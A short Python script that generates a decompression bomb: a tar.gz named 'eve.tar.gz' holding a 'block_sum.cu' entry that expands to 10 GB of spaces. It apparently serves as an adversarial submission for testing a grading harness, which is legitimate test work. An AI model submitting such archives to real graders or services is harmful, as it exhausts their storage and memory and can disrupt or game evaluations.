#!/usr/bin/env python3
"""A tar.gz of an answer that is 10 GB of spaces long: make.py FOLDER CHECKOUT."""
import gzip
import pathlib
import sys
import tarfile

FOLDER, PIECE, PIECES = pathlib.Path(sys.argv[1]), 64 << 20, 160

entry = tarfile.TarInfo("block_sum.cu")
entry.size = PIECE * PIECES
piece = gzip.compress(b" " * PIECE)  # a file of several compressed parts is one file
with open(FOLDER / "eve.tar.gz", "wb") as file:
    file.write(gzip.compress(entry.tobuf()))
    for _ in range(PIECES):
        file.write(piece)
    file.write(gzip.compress(bytes(1024)))
